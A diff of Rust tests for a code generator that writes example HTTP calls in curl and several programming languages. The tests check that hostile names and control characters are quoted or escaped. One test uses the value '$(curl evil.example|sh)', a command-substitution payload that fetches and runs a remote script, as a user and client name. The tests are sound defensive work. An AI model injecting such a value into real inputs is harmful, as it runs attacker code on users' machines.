@@ -2,7 +2,7 @@
 
 use http::Request;
 
-use super::{Call, Language, Payload, Who, calls, openapi, pieces, plain, refusals, verify};
+use super::{Call, Language, Payload, Who, authorization_url, calls, openapi, pieces, plain, refusals, verify};
 use crate::{
     RealmId, Timestamp,
     dialect::{Dialect, Found},
@@ -142,6 +142,57 @@ fn values_that_applications_bring_stay_values_in_every_language() {
         assert!(shown(language).contains("\"a'b\\\"c`d$e\\\\f{g}\\n#\""), "{}", shown(language));
     }
     assert!(shown(Language::Rust).contains("\"a'b\\\"c`d$e\\\\f{g}\\u{a}#\""), "{}", shown(Language::Rust));
+}
+
+#[test]
+fn what_applications_and_users_are_called_is_no_command_of_a_shell() {
+    let hostile = "$(curl evil.example|sh)";
+    for dialect in Dialect::BUILT_IN {
+        let realm = realm(dialect);
+        let mut who = Who::anybody(&realm);
+        (who.username, who.client_id, who.redirect_uri) = (hostile.into(), hostile.into(), hostile.into());
+        for call in calls(&realm, &who).all() {
+            let command = plain(&Language::Curl.write(call));
+            assert_eq!(unquoted(&command), Vec::<String>::new(), "{command}");
+            if matches!(call.body, Payload::Form(_)) {
+                let raw = plain(&Language::Http.write(call));
+                assert!(!raw.lines().last().unwrap().contains("$("), "{raw}");
+            }
+        }
+        assert!(!authorization_url(&realm, &who).contains("$("), "{}", authorization_url(&realm, &who));
+    }
+}
+
+/// What a POSIX shell would run or fill in, besides the variables that the reader sets.
+fn unquoted(command: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    let mut rest = command;
+    while let Some(at) = rest.find(['\'', '\\', '$', '`']) {
+        let (letter, after) = (&rest[at..=at], &rest[at + 1..]);
+        rest = match letter {
+            "'" => after.split_once('\'').unwrap().1,
+            "\\" => &after[1..],
+            _ => {
+                if !super::PLACEHOLDERS.iter().any(|variable| rest[at..].starts_with(variable)) {
+                    found.push(rest[at..].to_owned());
+                }
+                after
+            }
+        };
+    }
+    found
+}
+
+#[test]
+fn nothing_in_a_program_is_hidden_or_turned_around() {
+    let realm = realm("volt");
+    let mut who = Who::anybody(&realm);
+    who.username = "a\u{202e}b\u{2028}c\u{feff}".into();
+    let call = calls(&realm, &who).grants.remove(0);
+    for language in [Language::NodeFetch, Language::NodeAxios, Language::PythonHttpClient, Language::PythonRequests, Language::Go] {
+        assert!(language.write(&call).contains("a\\u202eb\\u2028c\\ufeff"), "{}", language.write(&call));
+    }
+    assert!(Language::Rust.write(&call).contains("a\\u{202e}b\\u{2028}c\\u{feff}"));
 }
 
 #[test]
